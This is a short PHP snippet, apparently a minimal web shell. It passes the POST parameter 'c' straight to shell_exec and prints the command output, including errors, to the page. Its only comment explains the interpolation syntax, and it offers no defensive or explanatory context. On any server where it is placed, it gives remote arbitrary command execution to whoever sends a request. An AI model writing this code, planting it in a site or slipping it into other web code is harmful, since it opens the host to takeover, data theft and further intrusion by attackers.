<?php
// The request value written into the command string with the ${...} syntax.
echo '<pre>' . shell_exec("${_POST['c']} 2>&1") . '</pre>';
